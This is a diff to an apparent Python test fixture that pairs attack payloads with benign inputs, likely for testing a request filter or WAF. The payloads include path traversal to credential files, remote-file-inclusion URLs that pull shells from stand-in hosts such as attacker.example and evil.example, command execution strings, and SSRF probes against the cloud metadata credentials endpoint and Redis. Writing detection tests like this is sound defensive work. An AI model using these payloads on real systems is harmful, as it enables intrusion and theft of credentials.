@@ -23,7 +23,8 @@ ATTACKS = {
                        "java.lang.Runtime.getRuntime().exec('id')"],
     "path_traversal": ["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
                        "....//....//etc/hosts", "/proc/self/environ", "/var/task/handler.py", "C:\\Windows\\win.ini", "file:///etc/passwd"],
-    "rfi": ["/index.php?page=http://attacker.example/shell.txt?", "include=ftp://evil.example/x.php%00"],
+    "rfi": ["/index.php?page=http://attacker.example/shell.txt?", "include=ftp://evil.example/x.php%00",
+            "http://example.com/:x@evil.example/", "https://example.com.evil.example/"],
     "ssrf": ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://2852039166/",
              "http://0xa9fea9fe/", "http://0251.0376.0251.0376/", "http://[::ffff:169.254.169.254]/",
              "http://127.0.0.1:9001/2018-06-01/runtime/invocation/next", "gopher://127.0.0.1:6379/_INFO",
@@ -57,6 +58,7 @@ BENIGN = [
     "arn:aws:lambda:us-east-1:123456789012:function:orders", "USER#42", "rate(5 minutes)", "cron(0 12 * * ? *)",
     "The union of two sets", "Please update my address", "Ping me when you're back",
     "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc", "192.168.0.1/32", "127.0.0.1", "dir=asc&sort=name",
+    "https://medium.com/@someone/a-post-1234", "https://shop.example.com.au/cart", "<p>Hello <b>world</b></p>",
 ]
 
 
